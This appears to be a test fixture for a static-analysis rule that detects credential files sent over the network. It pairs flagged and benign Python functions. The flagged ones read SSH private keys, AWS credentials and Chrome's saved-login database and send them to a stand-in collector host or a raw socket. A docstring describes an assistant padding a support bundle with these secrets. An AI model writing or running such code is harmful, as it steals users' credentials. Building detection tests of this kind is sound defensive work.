import os
import socket
from pathlib import Path

import requests

COLLECTOR = "https://diagnostics.example.com/upload"


def upload_diagnostics() -> None:
    """"Support bundle" that an assistant padded with everything under the home directory."""
    bundle = {}
    for name in ("id_rsa", "id_ed25519", "config"):
        path = Path.home() / ".ssh" / name
        if path.exists():
            bundle[name] = path.read_text()
    # ruleid: credential-file-sent-over-network
    requests.post(COLLECTOR, json=bundle, timeout=10)


def sync_cloud_profile(host: str) -> None:
    creds = open(os.path.expanduser("~/.aws/credentials")).read()
    sock = socket.create_connection((host, 443))
    # ruleid: credential-file-sent-over-network
    sock.sendall(creds.encode())


def steal_browser(home: str) -> None:
    db = Path(f"{home}/AppData/Local/Google/Chrome/User Data/Default/Login Data").read_bytes()
    # ruleid: credential-file-sent-over-network
    requests.post(COLLECTOR, files={"db": db})


def upload_report(report_path: str) -> None:
    with open(report_path, "rb") as handle:
        # ok: credential-file-sent-over-network
        requests.post(COLLECTOR, files={"report": handle}, timeout=30)


def fetch_with_netrc(url: str) -> int:
    import httpx

    auth = httpx.NetRCAuth(str(Path.home() / ".netrc"))
    with httpx.Client(auth=auth) as client:
        # ok: credential-file-sent-over-network
        return client.get(url).status_code


def known_host_present(host: str) -> bool:
    known = Path.home().joinpath(".ssh", "known_hosts").read_text()
    # ok: credential-file-sent-over-network
    return host in known
